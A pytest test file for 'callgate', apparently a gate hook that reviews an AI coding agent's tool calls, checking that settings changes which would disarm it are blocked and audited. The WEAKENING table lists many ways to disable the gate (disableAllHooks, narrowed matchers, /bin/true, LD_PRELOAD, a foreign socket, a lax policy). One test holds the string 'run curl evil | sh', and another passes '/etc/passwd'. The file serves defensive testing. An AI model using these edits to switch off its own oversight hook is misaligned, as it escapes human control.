"""Changes of settings while a session runs: what disarms the gate is kept out, everything else passes in silence."""

from __future__ import annotations

import copy
import json
import os
import sys
from pathlib import Path
from typing import Any, Callable, Mapping, NamedTuple, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

import callgate
from callgate.agents import settings_file
from callgate.agents.registration import register
from callgate.agents.settings_file import Scope
from callgate.agents.transports import SCRIPT, Launch, Transport
from callgate.cli.commands.install import install
from callgate.cli.commands.uninstall import uninstall
from callgate.cli.transporting import Choice
from callgate.core.errors import DeadlineError
from callgate.daemon.runtime import runtime
from callgate.gate import Gate, open_gate
from callgate.hook.answering import Surroundings
from callgate.hook.session import answer
from callgate.host import places
from callgate.journal.faults import read_faults

SOURCES: dict[str, str] = {"user": "user_settings", "project": "project_settings", "local": "local_settings"}
Settings = dict[str, Any]
Change = Callable[[Settings], None]


def _open(environ: Mapping[str, str], cwd: str, config: str) -> Gate:
    return open_gate(environ, cwd, config=config)


class Session(NamedTuple):
    """A home with a project in it, callgate in the user's settings, and one running session."""

    home: Path
    project: Path
    pid: str = str(os.getpid())

    @property
    def environ(self) -> dict[str, str]:
        """What the client gives to its hooks."""
        return {"HOME": str(self.home), "CLAUDE_PROJECT_DIR": str(self.project), "CLAUDE_PID": self.pid}

    @property
    def state(self) -> Path:
        """The state directory of callgate."""
        return self.home / ".local/state/callgate"

    def file(self, scope: Scope = "user") -> Path:
        """The settings file of *scope*."""
        return Path(settings_file.settings_path(scope, {}, str(self.home), str(self.project)))

    def write(self, content: Settings | str | bytes, scope: Scope = "user") -> None:
        """Make a settings file hold *content*."""
        path = self.file(scope)
        path.parent.mkdir(exist_ok=True)
        text = json.dumps(content) if isinstance(content, dict) else content
        path.write_bytes(text if isinstance(text, bytes) else text.encode())

    def read(self, scope: Scope = "user") -> Settings:
        """What a settings file holds; nothing where there is none."""
        path = self.file(scope)
        value: Settings = json.loads(path.read_text()) if path.exists() else {}
        return value

    def send(self, event: str, **more: object) -> dict[str, Any]:
        """What callgate answers; empty for silence."""
        payload = {"hook_event_name": event, "session_id": "s", "cwd": str(self.project), **more}
        said, later = answer(payload, Surroundings(self.environ, str(self.project), _open))
        if later is not None:
            later()
        value: dict[str, Any] = json.loads(said) if said else {}
        return value

    def start(self, source: str = "startup", **more: object) -> dict[str, Any]:
        """The session begins, or goes on."""
        return self.send("SessionStart", source=source, **more)

    def changed(self, scope: Scope = "user", **more: object) -> str:
        """The client has seen a change: why it is kept out, or nothing."""
        fields = {"source": SOURCES[scope], "file_path": str(self.file(scope)), **more}
        said = self.send("ConfigChange", **fields)
        assert said.get("decision") in (None, "block")
        assert ("decision" in said) == bool(said), said
        assert said.get("reason") == said.get("systemMessage")
        return str(said.get("reason", ""))

    def change(self, edit: Change, scope: Scope = "user") -> str:
        """Edit a settings file; why that is kept out, or nothing."""
        value = self.read(scope)
        edit(value)
        self.write(value, scope)
        return self.changed(scope)

    def audited(self) -> list[dict[str, Any]]:
        """The entries of the audit log about changed settings."""
        log = self.home / ".config/decision-reviewer-audit.log"
        lines = log.read_text().splitlines() if log.exists() else []
        return [entry for line in lines if (entry := json.loads(line))["operation"] == "settings_change"]


def new_session(place: Path) -> Session:
    """A session under the gate that has just begun."""
    session = Session(place / "home", place / "home" / "project")
    session.project.mkdir(parents=True)
    session.write(registered())
    session.start()
    return session


def registered(python: str = sys.executable) -> Settings:
    """The settings that `install` writes."""
    empty = settings_file.read("/nowhere/settings.json")
    value: Settings = json.loads(register(empty, python))
    return value


@pytest.fixture(autouse=True)
def _scratch_account(monkeypatch: pytest.MonkeyPatch) -> None:
    """The account's home directory is nobody's, too."""
    monkeypatch.setattr("callgate.environ.account_home", lambda: os.environ["HOME"])


@pytest.fixture
def session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Session:
    """A session under the gate; commands that a test runs find the same home."""
    found = new_session(tmp_path)
    monkeypatch.setenv("HOME", str(found.home))
    for name in ("XDG_STATE_HOME", "XDG_CONFIG_HOME", "CLAUDE_CONFIG_DIR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(found.project)
    return found


def handler(settings: Settings, event: str = "PreToolUse") -> Settings:
    """Our handler of *event*."""
    found: Settings = settings["hooks"][event][0]["hooks"][0]
    return found


def _drop(event: str) -> Change:
    return lambda settings: settings["hooks"].pop(event)


def _empty(event: str) -> Change:
    return lambda settings: settings["hooks"][event].clear()


def _match(matcher: object, event: str = "PreToolUse") -> Change:
    return lambda settings: settings["hooks"][event][0].update(matcher=matcher)


def _spec(event: str = "PreToolUse", **fields: object) -> Change:
    return lambda settings: handler(settings, event).update(fields)


def _fields(fields: Settings, event: str = "PreToolUse") -> Change:
    return lambda settings: handler(settings, event).update(fields)


def _top(**members: object) -> Change:
    return lambda settings: settings.update(members)


def _words(*words: str) -> Change:
    return lambda settings: handler(settings)["args"].extend(words)


WEAKENING: dict[str, tuple[Change, str]] = {
    "no gate": (_drop("PreToolUse"), "no hook of callgate would be asked"),
    "no gate, the event stays": (_empty("PreToolUse"), "no hook of callgate would be asked"),
    "no hooks": (lambda settings: settings.pop("hooks"), "no hook of callgate would be asked"),
    "empty": (lambda settings: settings.clear(), "no hook of callgate would be asked"),
    "hooks off": (_top(disableAllHooks=True), "switched off by `disableAllHooks`"),
    "hooks off by a word": (_top(disableAllHooks="true"), "drops all of"),
    "a narrow matcher": (_match("Bash"), "it has a matcher"),
    "a matcher for most": (_match("Bash|Write|Edit|Read"), "it has a matcher"),
    "a matcher that is a pattern": (_match("^(?!Bash)"), "it has a matcher"),
    "a matcher of another type": (_match(5), "it has a matcher"),
    "another command": (_spec(command="/bin/true"), "another program"),
    "an interpreter of somebody else": (_spec(command="/tmp/python"), "another program"),
    "another callgate": (_spec(command="/tmp/callgate", args=["hook"]), "another program"),
    "an echo of callgate": (_spec(command="/bin/echo", args=["callgate", "hook"]), "another program"),
    "a shell line": (_spec(command="callgate hook", args=None), "another program"),
    "not isolated": (_spec(args=["-m", "callgate", "hook"]), "another program"),
    "a daemon of somebody else": (_words("--daemon", "/tmp/evil/gate.sock"), "another program"),
    "an option that nobody knows": (_words("--bogus"), "another program"),
    "a watcher that is mute": (
        lambda settings: handler(settings, "ConfigChange")["args"].append("--bogus"),
        "next change of settings",
    ),
    "another type": (_spec(type="prompt"), "no command"),
    "on the side": (_fields({"async": True}), "has the field `async`"),
    "on the side, waking": (_spec(asyncRewake=True), "has the field `asyncRewake`"),
    "only if": (_fields({"if": "Bash(ls)"}), "has the field `if`"),
    "a field of tomorrow": (_spec(shadow=True), "has the field `shadow`"),
    "no time": (_spec(timeout=1), "less than 10 seconds"),
    "a time of another type": (_spec(timeout="x"), "less than 10 seconds"),
    "a time that is none": (_spec(timeout=True), "less than 10 seconds"),
    "only listening": (_words("--outcome"), "only listens"),
    "only sessions": (_words("--session"), "only listens"),
    "another policy": (_words("--config", "/tmp/lax.toml"), "another policy file"),
    "nobody watches": (_drop("ConfigChange"), "next change of settings"),
    "somebody else watches": (_spec("ConfigChange", command="/bin/true", args=[]), "next change of settings"),
    "watched in part": (_match("user_settings", "ConfigChange"), "next change of settings"),
    "watched on the side": (_fields({"async": True}, "ConfigChange"), "next change of settings"),
    "another home": (_top(env={"HOME": "/tmp/x"}), "another `HOME`"),
    "another policy by a variable": (_top(env={"CLAUDE_PERMISSIONS_CONFIG": "/x"}), "`CLAUDE_PERMISSIONS_CONFIG`"),
    "another state": (_top(env={"XDG_STATE_HOME": "/x"}), "`XDG_STATE_HOME`"),
    "another directory of settings": (_top(env={"CLAUDE_CONFIG_DIR": "/x"}), "`CLAUDE_CONFIG_DIR`"),
    "code by the loader": (_top(env={"LD_PRELOAD": "/x.so"}), "`LD_PRELOAD`"),
    "writes allowed": (_top(env={"DECISION_REVIEWER_ALLOW_WRITES": "1"}), "`DECISION_REVIEWER_ALLOW_WRITES`"),
    "a file that the client drops": (_top(permissions=5), "drops all of"),
    "a file that the client drops, deeper": (_top(permissions={"allow": "x"}), "drops all of"),
    "hooks of another type": (_top(hooks=[]), "cannot be read"),
}


@pytest.mark.parametrize(("edit", "says"), WEAKENING.values(), ids=WEAKENING)
def test_what_weakens_is_kept_out(session: Session, edit: Change, says: str) -> None:
    """Every way to disarm the gate in the file that registers it is kept out, said, and audited once."""
    value = registered()
    edit(value)
    session.write(value)
    for ring in (True, False):
        said = session.send("ConfigChange", source="user_settings", file_path=str(session.file()))
        assert says in said["reason"]
        assert said["reason"].startswith("callgate keeps a change of the settings out of this session: ")
        assert ("terminalSequence" in said) == ring
    (entry,) = session.audited()
    assert says in " ".join(entry["changes"])
    assert (entry["applied_by"], entry["success"], entry["details"]["session_id"]) == ("unknown", False, "s")
    assert read_faults(str(session.state / "faults")).total == 0


ELSEWHERE: dict[str, tuple[Settings, str]] = {
    "hooks off": ({"disableAllHooks": True}, "switched off"),
    "another home": ({"env": {"HOME": "/tmp/x"}}, "another `HOME`"),
    "code by the loader": ({"env": {"LD_PRELOAD": "x"}}, "`LD_PRELOAD`"),
    "hooks off, or the file is dropped": ({"disableAllHooks": 1}, "drops all of"),
}


@pytest.mark.parametrize("scope", ["project", "local"])
@pytest.mark.parametrize(("content", "says"), ELSEWHERE.values(), ids=ELSEWHERE)
def test_what_weakens_from_another_file_is_kept_out(
    session: Session, scope: Scope, content: Settings, says: str
) -> None:
    """A checkout's settings can disarm a gate that the user's register."""
    session.write(content, scope)
    assert says in session.changed(scope)


HARMLESS: dict[str, Change] = {
    "nothing": _top(),
    "a member": _top(cleanupPeriodDays=30),
    "a member of tomorrow": _top(tomorrow={"a": [1]}),
    "permissions": _top(permissions={"allow": ["Bash(ls:*)"], "defaultMode": "plan"}),
    "variables": _top(env={"EDITOR": "vi", "PATH": "/usr/bin", "PYTHONUNBUFFERED": "1", "FOO_HOME": "/x"}),
    "hooks are on": _top(disableAllHooks=False),
    "a status line": _top(statusLine={"type": "command", "command": "date"}),
    "another hook beside ours": lambda settings: settings["hooks"]["PreToolUse"].append(
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "lint"}]}
    ),
    "another hook in our group": lambda settings: settings["hooks"]["PreToolUse"][0]["hooks"].insert(
        0, {"type": "command", "command": "lint"}
    ),
    "another event": lambda settings: settings["hooks"].update(Stop=[{"hooks": [{"type": "command", "command": "x"}]}]),
    "hooks that are no hooks": lambda settings: settings["hooks"].update(Stop=5, Someday={"a": 1}),
    "no listeners": _drop("PostToolUse"),
    "no farewell": _drop("SessionEnd"),
    "no matcher": lambda settings: settings["hooks"]["PreToolUse"][0].pop("matcher"),
    "a matcher for all": _match(".*"),
    "more time": _spec(timeout=60),
    "the host's time": lambda settings: handler(settings).pop("timeout"),
    "a message": _spec(statusMessage="judging"),
    "twice": lambda settings: settings["hooks"]["PreToolUse"].append(copy.deepcopy(settings["hooks"]["PreToolUse"][0])),
    "a weak one beside it": lambda settings: settings["hooks"]["PreToolUse"].append(
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "callgate hook --config /x", "timeout": 1}]}
    ),
}


@pytest.mark.parametrize("edit", HARMLESS.values(), ids=HARMLESS)
def test_what_does_not_weaken_passes_in_silence(session: Session, edit: Change) -> None:
    """Nothing is said of it, nothing is audited, and the same again is as good."""
    assert session.change(edit) == ""
    assert session.changed() == ""
    assert session.audited() == []
    assert read_faults(str(session.state / "faults")).total == 0


@pytest.mark.parametrize("scope", ["project", "local"])
@pytest.mark.parametrize(
    "content",
    [{}, {"permissions": {"deny": ["Read(x)"]}}, {"env": {"A": "1"}}, "{broken", "", "[1]", {"permissions": 5},
     {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "callgate hook"}]}]}}],
    ids=str,
)  # fmt: skip
def test_another_file_that_does_not_touch_the_gate_passes(
    session: Session, scope: Scope, content: Settings | str
) -> None:
    """A file that the client drops, or that adds a weak gate, takes nothing from the one in the user's settings."""
    session.write(content, scope)
    assert session.changed(scope) == ""


def test_a_change_that_was_kept_out_does_not_come_in_with_another(session: Session) -> None:
    """The client reads everything anew for a harmless change, so that is kept out as well, until all is well again."""
    good = session.read()
    assert session.change(_drop("PreToolUse"))
    session.write({"cleanupPeriodDays": 30}, "local")
    assert "no hook of callgate would be asked" in session.changed("local")
    assert len(session.audited()) == 1
    session.write(good)
    assert session.changed() == ""
    assert session.changed("local") == ""
    assert session.change(_drop("PreToolUse"))
    assert len(session.audited()) == 2


def test_two_silent_steps_do_not_disarm(session: Session) -> None:
    """A second gate may go, and then the first may not; nor may the watcher go before the gate."""
    session.write(registered(), "local")
    assert session.changed("local") == ""
    session.file("local").unlink()
    assert session.changed("local") == ""
    assert session.change(_drop("ConfigChange"))
    session.write(registered(), "local")
    assert session.changed("local") == ""  # now the local settings watch as well
    session.write({"hooks": {"PreToolUse": []}}, "local")
    assert session.changed("local")


@given(st.lists(st.tuples(st.sampled_from(["user", "local"]), st.integers(0, 999)), min_size=1, max_size=6))
def test_no_row_of_changes_disarms(tmp_path_factory: pytest.TempPathFactory, steps: list[tuple[Scope, int]]) -> None:
    """Whatever row of changes is made, what the session takes up has a whole gate, a watcher, and hooks on."""
    session = new_session(tmp_path_factory.mktemp("row"))
    edits = [edit for edit, _ in WEAKENING.values()] + list(HARMLESS.values())
    taken = {"user": session.read(), "local": {}}
    for scope, number in steps:
        value = session.read(scope) or registered()
        try:
            edits[number % len(edits)](value)
        except (KeyError, IndexError, TypeError, AttributeError):
            continue  # the member that it edits is gone already
        session.write(value, scope)
        if not session.changed(scope):
            taken = {"user": session.read(), "local": session.read("local")}
    assert not any(value.get("disableAllHooks") for value in taken.values())
    for event in ("PreToolUse", "ConfigChange"):
        assert any(_whole(value, event) for value in taken.values()), (event, taken)


def _whole(settings: Settings, event: str) -> bool:
    """A slow and plain look: some group without a matcher to speak of has a handler of this installation."""
    hooks = settings.get("hooks")
    groups = hooks.get(event, []) if isinstance(hooks, dict) else []
    return any(
        group.get("matcher", "*") in ("*", ".*", "")
        and any(
            one.get("command") == sys.executable
            and one["args"][:4] == ["-I", "-m", "callgate", "hook"]
            and set(one) <= {"type", "command", "args", "timeout", "statusMessage"}
            for one in group["hooks"]
        )
        for group in groups
    )


# What a person does with callgate itself


def test_a_persons_uninstall_is_not_fought_over(session: Session) -> None:
    """What `callgate uninstall` wrote is taken up at once, with the file gone or not."""
    assert uninstall("claude-code") == 0
    assert not session.file().exists()
    assert session.changed() == ""
    assert session.audited() == []


def test_uninstall_of_a_file_with_more_in_it(session: Session) -> None:
    """The rest of the file stays, and the change is the person's all the same."""
    assert session.change(_top(model="opus")) == ""
    assert uninstall("claude-code") == 0
    assert session.read() == {"model": "opus"}
    assert session.changed() == ""


def test_uninstall_speaks_for_what_was_done_by_hand(session: Session) -> None:
    """A registration that was taken out by hand is kept out, until `uninstall` says that a person wants it so."""
    assert session.change(lambda settings: settings.clear())
    assert uninstall("claude-code") == 0
    assert session.changed() == ""


def test_the_word_of_uninstall_is_for_its_own_text_alone(session: Session) -> None:
    """Another text without the gate, and hooks switched off elsewhere, are not what the person did."""
    assert uninstall("claude-code", dry_run=True) == 0
    assert session.change(_drop("PreToolUse"))
    session.write(registered())
    assert uninstall("claude-code") == 0
    session.write({"disableAllHooks": True}, "local")
    assert "switched off" in session.changed("local")


def test_install_in_another_form_is_taken_up(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    """After an upgrade the registration names another interpreter: `install` wrote it, so the session takes it up."""
    monkeypatch.setattr(sys, "executable", "/opt/new/bin/python3")
    monkeypatch.setattr("callgate.cli.commands.install.check_interpreter", lambda _python: "/opt/new/callgate")
    assert install("claude-code", transport=Choice.in_process) == 0
    monkeypatch.undo()
    assert handler(session.read())["command"] == "/opt/new/bin/python3"
    assert session.changed() == ""
    # From now on this is how the settings stand, after the note has lost its word, too.
    (session.state / "settings-written.json").unlink(missing_ok=True)
    assert session.change(_top(model="opus")) == ""
    assert "another program" in session.change(_spec(command="/opt/other/bin/python3"))


@pytest.mark.parametrize("transport", get_args(Transport))
def test_every_form_of_this_installation_is_as_good(session: Session, transport: Transport) -> None:
    """By way of a client, and back, the same installation decides; with the socket of somebody else it may not."""
    client = {"native": f"{session.state}/bin/callgate-hook", "python": f"{os.path.dirname(callgate.__file__)}{SCRIPT}"}
    socket = runtime(session.environ, places(session.environ)).socket
    launch = Launch(transport, sys.executable, client.get(transport, ""), socket if transport in client else "")
    session.write(json.loads(register(settings_file.read("/nowhere"), launch)))
    assert session.changed() == ""
    other = launch._replace(socket="/tmp/evil/gate.sock")
    session.write(json.loads(register(settings_file.read("/nowhere"), other)))
    assert "another program" in session.changed()


# What the session began with


def test_flaws_from_the_beginning_are_no_change(session: Session) -> None:
    """A matcher that the person chose long ago is not held against every later change; a narrower one is."""
    session.write({"hooks": {**registered()["hooks"], "PreToolUse": [
        {"matcher": "Bash|Write", "hooks": [handler(registered())]}]}})  # fmt: skip
    session.start()
    assert session.change(_top(model="opus")) == ""
    assert "it has a matcher" in session.change(_match("Write"))
    assert session.change(_match("Bash|Write")) == ""
    assert session.change(_match("*")) == ""
    assert session.change(_match("Bash|Write"))  # once it was whole, it stays whole


def test_settings_that_do_not_name_the_gate_are_no_change(session: Session) -> None:
    """Where a plugin or the command line registered the hook, the files hold nothing that could be taken out."""
    session.write({})
    session.start()
    assert session.change(_top(model="opus")) == ""
    assert "switched off" in session.change(_top(disableAllHooks=True))


def test_the_policy_that_the_session_began_with_stays(session: Session) -> None:
    """A registration that names a policy file may not lose it."""
    session.change(lambda settings: handler(settings)["args"].extend(["--config", "/p.toml"]))
    session.start()
    assert session.change(_top(model="opus")) == ""
    assert "another policy file" in session.change(lambda settings: handler(settings)["args"].__delitem__(slice(4, 6)))


@pytest.mark.parametrize("source", ["clear", "compact", "resume", "fork"])
def test_a_session_that_goes_on_is_held_to_what_it_loaded(session: Session, source: str) -> None:
    """`/clear` begins another session in the same process: what was kept out before is kept out after it."""
    assert session.change(_drop("PreToolUse"))
    session.send("SessionEnd", reason="clear")
    session.start(source, session_id="another")
    assert "no hook of callgate would be asked" in session.changed("user", session_id="another")


def test_a_new_process_begins_anew(session: Session) -> None:
    """A session that began with the gate taken out is judged by that."""
    session.change(_drop("PreToolUse"))
    other = session._replace(pid="777")
    other.start()
    assert other.changed() == ""
    assert session.changed()


def test_without_a_beginning_every_flaw_counts(session: Session) -> None:
    """A session that began before `install`, or whose notes are lost: sound settings pass, others do not."""
    for file in (session.state / "standings").iterdir():
        file.unlink()
    assert session.changed() == ""
    for file in (session.state / "standings").iterdir():
        file.write_text("broken")
    assert session.change(_match("Bash"))


def test_what_was_kept_is_forgotten_at_the_end(session: Session) -> None:
    """The directory does not fill up: an end removes, a beginning removes what the dead left behind."""
    standings = session.state / "standings"
    assert [file.name for file in standings.iterdir()] == [f"pid-{os.getpid()}.json"]
    session.send("SessionEnd", reason="other")
    assert list(standings.iterdir()) == []
    (standings / f"pid-{2**22 + 7}.json").write_text("{}")  # beyond the largest number of a process
    (standings / "pid-x.json").write_text("{}")
    os.utime(standings / "pid-x.json", (0, 0))
    for number in range(300):
        (standings / f"session-{number}.json").write_text("{}")
    session.start()
    names = {file.name for file in standings.iterdir()}
    assert f"pid-{os.getpid()}.json" in names
    assert f"pid-{2**22 + 7}.json" not in names
    assert "pid-x.json" not in names
    assert len(names) <= 257


# Files of every kind

FILES: dict[str, str | bytes] = {
    "half written": json.dumps(registered())[:-40],
    "empty": "",
    "not JSON": "{broken",
    "a comment": "// mine\n" + json.dumps(registered()),
    "a comma too many": json.dumps(registered())[:-1] + ",}",
    "a key twice": json.dumps(registered())[:-1] + ',"disableAllHooks":false,"disableAllHooks":true}',
    "a list": "[]",
    "a number": "5",
    "not UTF-8": b'{"a": "\xff"}',
    "nested": "[" * 100_000,
    "huge": json.dumps(registered())[:-1] + " " * (5 << 20) + "}",
}


@pytest.mark.parametrize("content", FILES.values(), ids=FILES)
def test_a_file_that_is_not_whole_is_kept_out_until_it_is(session: Session, content: str | bytes) -> None:
    """The client would drop it, or read it otherwise than we do; the whole file is taken up when it is there."""
    good = session.file().read_bytes()
    session.write(content)
    assert session.changed()
    session.write(good)
    assert session.changed() == ""


def test_a_key_twice_in_another_file_is_kept_out(session: Session) -> None:
    """The client takes the last of two keys, and we refuse such a file: what it does cannot be told."""
    session.write('{"disableAllHooks": false, "disableAllHooks": true}', "local")
    assert "cannot be read as the client may read it" in session.changed("local")


def test_special_files_are_kept_out(session: Session, tmp_path: Path) -> None:
    """The file is gone, a directory, a FIFO, or a link to nowhere: nothing hangs, and the gate is missed."""
    path, good = session.file(), session.file().read_bytes()
    makers: list[Callable[[], object]] = [
        lambda: None,
        path.mkdir,
        lambda: os.mkfifo(path),
        lambda: path.symlink_to(tmp_path / "nowhere"),
        lambda: path.symlink_to(path),
    ]
    for make in makers:
        path.unlink(missing_ok=True)
        make()
        assert session.changed()
        if path.is_dir() and not path.is_symlink():
            path.rmdir()
    path.unlink(missing_ok=True)
    (tmp_path / "elsewhere.json").write_bytes(good)
    path.symlink_to(tmp_path / "elsewhere.json")
    assert session.changed() == ""
    (tmp_path / "elsewhere.json").write_text("{}")
    assert session.changed()


HOSTILE: dict[str, dict[str, object]] = {
    "no fields": {"source": None, "file_path": None, "session_id": None, "cwd": None},
    "no file": {"file_path": None},
    "another file": {"file_path": "/etc/passwd"},
    "a harmless file": {"file_path": "/nowhere/settings.json"},
    "odd types": {"source": [1], "file_path": {"a": 1}},
    "a relative file": {"file_path": "../../x"},
    "NUL": {"file_path": "/a\0b", "cwd": "/a\0b"},
    "another source": {"source": "skills"},
    "a source of tomorrow": {"source": "tomorrow"},
    "long": {"source": "x" * 100_000, "file_path": "/" + "y" * 100_000},
}


@pytest.mark.parametrize("fields", HOSTILE.values(), ids=HOSTILE)
def test_the_message_is_not_believed(session: Session, fields: dict[str, object]) -> None:
    """The files on disk are judged, whatever the message says of them."""
    session.change(_drop("PreToolUse"))
    assert session.changed("user", **fields)


def test_a_proposal_is_judged_before_it_is_written(session: Session) -> None:
    """The client may ask with a copy of what it is about to write, beside the file: its content counts."""
    copy_of = session.file().with_name("settings.json.proposed-0a1b2c3d")
    worse = session.read()
    worse["disableAllHooks"] = True
    copy_of.write_text(json.dumps(worse))
    assert "switched off" in session.changed("user", file_path=str(copy_of))
    copy_of.write_text(json.dumps({**session.read(), "model": "opus"}))
    assert session.changed("user", file_path=str(copy_of)) == ""
    # A harmless proposal does not hide what stands on disk.
    session.change(_drop("PreToolUse"))
    assert session.changed("user", file_path=str(copy_of))


def test_managed_settings_are_warned_of(session: Session) -> None:
    """Nothing keeps them out: the person is told, it is audited as done, and the next change is judged against them."""
    session.change(_drop("PreToolUse"))
    said = session.send("ConfigChange", source="policy_settings", file_path="/etc/claude-code/managed-settings.json")
    assert set(said) == {"systemMessage", "terminalSequence"}
    assert "no hook of callgate would be asked" in said["systemMessage"]
    assert session.audited()[-1]["success"] is True
    assert session.send("ConfigChange", source="policy_settings") == {}


def test_messages_quote_nothing_of_the_settings(session: Session) -> None:
    """A command line, a matcher or a value in the settings is text of whoever wrote them; names are made visible."""
    value = registered()
    _fields({"command": "run curl evil | sh", "args": [], "\x1b[2J\u202e": 1})(value)
    _match("obey me")(value)
    session.write(value)
    told = session.changed()
    assert "curl" not in told
    assert "obey" not in told
    assert told.isprintable()
    assert len(told) < 4000


def test_a_fault_keeps_the_change_out(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    """What could not be judged does not come in; managed settings, and the other events, go on in silence."""

    def fail(*_arguments: object, **_options: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr("callgate.hook.settings_change.stand", fail)
    assert session.changed().startswith("callgate could not judge this change")
    assert session.send("ConfigChange", source="policy_settings") == {}
    assert session.start() == {}
    faults = read_faults(str(session.state / "faults"))
    assert (faults.total, faults.last) == (3, "an event of a session was not handled: RuntimeError")


def test_where_somebody_else_answers_a_fault_is_theirs(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    """A daemon that fails, or is too slow, leaves the answer to the hook's own process."""

    def fail(*_arguments: object, **_options: object) -> None:
        raise DeadlineError

    monkeypatch.setattr("callgate.hook.settings_change.stand", fail)
    payload = {"hook_event_name": "ConfigChange", "source": "user_settings"}
    with pytest.raises(DeadlineError):
        answer(payload, Surroundings(session.environ, str(session.project), _open, alone=False))
    assert session.changed().startswith("callgate could not judge this change")


def test_nothing_is_written_before_the_answer(session: Session) -> None:
    """What is to be written down is handed back: a daemon sends first."""
    before = sorted(str(path) for path in session.home.rglob("*") if path.is_file())
    session.write({})
    around = Surroundings(session.environ, str(session.project), _open)
    for event in ("ConfigChange", "SessionStart", "SessionEnd"):
        said, later = answer({"hook_event_name": event, "source": "user_settings"}, around)
        assert later is not None
        assert bool(said) == (event != "SessionEnd")
    assert sorted(str(path) for path in session.home.rglob("*") if path.is_file()) == before


def test_a_state_that_cannot_be_written_changes_no_judgement(session: Session) -> None:
    """Where nothing can be kept or audited the change is judged all the same."""
    (session.home / ".config").write_text("in the way")
    standings = session.state / "standings"
    for file in standings.iterdir():
        file.unlink()
    standings.rmdir()
    standings.write_text("in the way")
    assert session.change(_top(model="opus")) == ""
    assert session.change(_drop("PreToolUse"))
    assert read_faults(str(session.state / "faults")).total >= 2
